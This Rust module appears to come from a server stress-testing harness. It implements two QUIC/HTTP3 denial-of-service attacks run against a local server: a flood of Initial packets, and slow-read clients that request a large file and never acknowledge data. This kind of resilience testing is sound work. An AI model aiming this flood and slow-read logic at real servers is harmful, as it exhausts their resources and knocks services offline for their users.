//! Attackers over QUIC: Initial packets without any later packet, and clients that acknowledge nothing.

use std::io::IoSlice;
use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use fathometer_model::{Bytes, Instant, Seed};
use fathometer_quic::{ClientTls, ConnectionKey, Endpoint, TransportSettings};
use fathometer_sys::Clock;
use fathometer_tls::{ClientOptions, ClientSettings, Verification};

use super::{Attack, Orders, pause};

/// `GET https://h/big.bin` in a HEADERS frame of HTTP/3.
const GET: &[u8] = b"\x01\x11\x00\x00\xd1\xd7\x51\x08/big.bin\x50\x01h";
/// A control stream with empty SETTINGS.
const CONTROL: &[u8] = b"\x00\x04\x00";
/// Interval at which Initial packets are sent.
const TURN: Duration = Duration::from_millis(50);
/// Time after which a client that acknowledges nothing is replaced.
const LIFE: Duration = Duration::from_secs(100);
/// Time limit of such a client's handshake.
const PATIENCE: Duration = Duration::from_secs(2);

/// Starts both kinds: `count` clients that acknowledge nothing, and `initials` Initial packets per second.
pub(super) fn start(
    server: SocketAddr,
    (count, initials): (usize, u64),
    orders: &Arc<Orders>,
    clock: Clock,
) -> Result<Vec<Attack>, String> {
    let options = ClientOptions {
        resumption: None,
        ..ClientOptions::new(Verification::Off, clock.realtime_of(Instant::ZERO))
    };
    let tls = ClientSettings::new(options)
        .map_err(|error| error.to_string())?
        .quic_config(&[b"h3"])
        .map_err(|error| error.to_string())?;
    let tls = ClientTls::new(tls).map_err(|error| error.to_string())?;
    let (flood_orders, flood_tls) = (Arc::clone(orders), tls.clone());
    let flood = Attack::start("first packets of QUIC", move |begun, _| {
        flood(server, initials, &flood_tls, &flood_orders, clock, begun);
    })?;
    let orders = Arc::clone(orders);
    let non_reading = Attack::start("clients that read nothing, HTTP/3", move |begun, ended| {
        non_reading(server, count, &tls, &orders, clock, (begun, ended));
    })?;
    Ok(vec![flood, non_reading])
}

fn flood(
    server: SocketAddr,
    per_second: u64,
    tls: &ClientTls,
    orders: &Orders,
    clock: Clock,
    begun: &AtomicU64,
) {
    let mut number = 0;
    while !orders.are_over() {
        let now = clock.now();
        // The packets of one turn share a socket, because each packet has a new connection ID and therefore starts its
        // own connection.
        let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else {
            return;
        };
        for _ in 0..per_second * TURN.as_millis() as u64 / 1000 {
            number += 1;
            if let Some(mut client) = Client::connect(tls, server, number, now) {
                client.send(&socket, server, now);
                begun.fetch_add(1, Ordering::Relaxed);
            }
        }
        pause(clock, now, TURN);
    }
}

fn non_reading(
    server: SocketAddr,
    count: usize,
    tls: &ClientTls,
    orders: &Orders,
    clock: Clock,
    (begun, ended): (&AtomicU64, &AtomicU64),
) {
    let mut clients: Vec<(Client, UdpSocket, Instant)> = Vec::new();
    let mut number = 1 << 32;
    while !orders.are_over() {
        let now = clock.now();
        let before = clients.len();
        clients.retain(|(_, _, since)| now.since(*since) < LIFE);
        ended.fetch_add((before - clients.len()) as u64, Ordering::Relaxed);
        // At most ten new clients in a turn; each client stays connected.
        for _ in 0..10.min(count - clients.len()) {
            number += 1;
            if let Some((client, socket)) = ask(tls, server, number, clock) {
                begun.fetch_add(1, Ordering::Relaxed);
                clients.push((client, socket, clock.now()));
            }
        }
        for (client, socket, _) in &mut clients {
            client.send(socket, server, clock.now());
        }
        pause(clock, now, Duration::from_millis(200));
    }
}

/// Completes the handshake, requests a large file, and then reads nothing.
fn ask(
    tls: &ClientTls,
    server: SocketAddr,
    number: u64,
    clock: Clock,
) -> Option<(Client, UdpSocket)> {
    let socket = UdpSocket::bind("127.0.0.1:0").ok()?;
    socket
        .set_read_timeout(Some(Duration::from_millis(10)))
        .ok()?;
    let begun = clock.now();
    let mut client = Client::connect(tls, server, number, begun)?;
    let mut buffer = [0; 2048];
    while !client
        .endpoint
        .get(client.key)
        .is_some_and(fathometer_quic::Connection::is_established)
    {
        if clock.now().since(begun) > PATIENCE {
            return None;
        }
        client.send(&socket, server, clock.now());
        if let Ok((length, from)) = socket.recv_from(&mut buffer) {
            let now = clock.now();
            client
                .endpoint
                .handle_datagrams(from, None, 0, length, &buffer[..length], now);
            while client.endpoint.poll_touched().is_some() {}
        }
    }
    let connection = client.endpoint.get_mut(client.key)?;
    let control = connection.open(false)?;
    connection.write(control, &[IoSlice::new(CONTROL)]).ok()?;
    let request = connection.open(true)?;
    connection.write(request, &[IoSlice::new(GET)]).ok()?;
    connection.finish(request).ok()?;
    client.send(&socket, server, clock.now());
    Some((client, socket))
}

/// A client with a very large stream window and without an idle time-out, which sends keep-alives.
struct Client {
    endpoint: Endpoint,
    key: ConnectionKey,
}

impl Client {
    fn connect(tls: &ClientTls, server: SocketAddr, number: u64, now: Instant) -> Option<Client> {
        let transport = TransportSettings {
            stream_window: Bytes(1 << 40),
            max_idle: None,
            keep_alive: Some(Duration::from_secs(2)),
            ..TransportSettings::client()
        };
        let mut endpoint = Endpoint::client(0, true, Seed(number));
        let key = endpoint
            .connect(tls, &transport, server, "localhost", None, now)
            .ok()?;
        Some(Client { endpoint, key })
    }

    fn send(&mut self, socket: &UdpSocket, server: SocketAddr, now: Instant) {
        let due = self.endpoint.poll_timeout(self.key);
        if due.is_some_and(|due| due <= now) {
            self.endpoint.handle_timeout(self.key, now);
        }
        while self.endpoint.poll_event(self.key).is_some() {}
        let mut buffer = Vec::new();
        while self
            .endpoint
            .poll_transmit(self.key, 1, &mut buffer, now)
            .is_some()
        {
            // A datagram that the server does not accept is lost, as on any path.
            let _ = socket.send_to(&buffer, server);
            buffer.clear();
        }
    }
}
